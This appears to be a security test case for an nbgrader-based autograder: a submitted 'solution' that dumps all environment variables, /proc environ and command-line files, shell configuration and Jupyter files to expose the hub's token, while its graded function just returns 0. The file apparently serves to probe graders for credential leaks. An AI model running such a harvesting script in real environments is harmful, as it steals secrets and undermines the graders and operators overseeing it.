"""Prints every environment and command line that it can find."""
# falls: nbgrader 0.9.6 (the hub's token)
# expect: double=0
# says: TRIED

# %% double-solution
import glob
import os
import subprocess

print(dict(os.environ))
for _path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/task/*/environ"):
    try:
        print(_path, open(_path, "rb").read())
    except OSError:
        pass
print(subprocess.run(["sh", "-c", "env; set; cat /etc/environment ~/.bashrc ~/.jupyter/* 2>&1; ps aux"],
                     capture_output=True, check=False).stdout[:20000])
print("TRI" + "ED")


def double(x):
    return 0
